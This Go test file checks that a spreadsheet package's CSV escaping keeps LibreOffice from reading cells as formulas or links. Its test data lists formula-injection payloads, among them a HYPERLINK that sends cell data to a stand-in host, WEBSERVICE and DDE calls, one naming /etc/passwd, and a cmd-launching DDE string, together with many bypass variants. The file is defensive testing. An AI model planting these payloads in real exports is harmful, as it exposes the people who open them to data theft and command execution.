package spreadsheet_test

import (
	"fmt"
	"html"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"moothall/internal/platform/spreadsheet"
)

// hostileCells would be formulas, links or commands if a program read them as such.
var hostileCells = []string{
	"=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r\n=1+1", " =1+1", "\u00a0=1+1", "\ufeff=1+1", `"=1+1"`, "\uff1d1+1", "a\n=1+1", "a;=1+1",
	`=HYPERLINK("https://a.example/?"&A1;"b")`, `=WEBSERVICE("https://a.example/")`, `=DDE("soffice";"/etc/passwd";"A1")`,
	`=cmd|' /C calc'!A0`, "={1}", "''=1+1", `";=1+1;"`, "a\t=1+1", "=1+1,=2+2", "\u200b=1+1", "\u2028=1+1",
}

// TestLibreOfficeFindsNoFormula opens a file with hostile cells in LibreOffice, and the same cells without protection, among which it
// finds formulas.
func TestLibreOfficeFindsNoFormula(t *testing.T) {
	office := os.Getenv("TEST_SOFFICE")
	if office == "" {
		t.Skip("TEST_SOFFICE names no LibreOffice: scripts/spreadsheet.sh")
	}
	protected, bare := []byte(spreadsheet.BOM), spreadsheet.BOM
	for i, cell := range hostileCells {
		row := fmt.Sprint("row ", i) // LibreOffice writes equal rows once
		protected = spreadsheet.AppendRow(protected, row, cell)
		bare += `"` + row + `","` + strings.ReplaceAll(cell, `"`, `""`) + "\"\r\n"
	}
	if opened := openIn(t, office, "bare", bare); !strings.Contains(opened, "table:formula=") {
		t.Fatal("LibreOffice finds no formula in cells without protection: this test can find nothing")
	}
	opened := openIn(t, office, "protected", string(protected))
	if at := strings.Index(opened, "table:formula="); at >= 0 {
		t.Errorf("LibreOffice finds a formula: %.200s", opened[at:])
	}
	if strings.Contains(opened, "xlink:href=\"http") {
		t.Error("LibreOffice finds a link")
	}
	if rows := strings.Count(opened, ">row "); rows != len(hostileCells) {
		t.Errorf("LibreOffice reads %d rows of %d", rows, len(hostileCells))
	}
	if !strings.Contains(html.UnescapeString(opened), "'=1+1") {
		t.Error("LibreOffice does not read the text of a cell")
	}
}

// openIn returns a CSV file as LibreOffice reads it, in its format for flat files.
func openIn(t *testing.T, office, name, text string) string {
	t.Helper()
	dir := t.TempDir()
	file := filepath.Join(dir, name+".csv")
	if err := os.WriteFile(file, []byte(text), 0o600); err != nil {
		t.Fatal(err)
	}
	command := exec.CommandContext(t.Context(), office, "-env:UserInstallation=file://"+filepath.Join(dir, "profile"), "--headless",
		"--infilter=CSV:44,34,76", "--convert-to", "fods", "--outdir", dir, file)
	if out, err := command.CombinedOutput(); err != nil {
		t.Fatalf("%v: %s", err, out)
	}
	opened, err := os.ReadFile(filepath.Join(dir, name+".fods"))
	if err != nil {
		t.Fatal(err)
	}
	return string(opened)
}
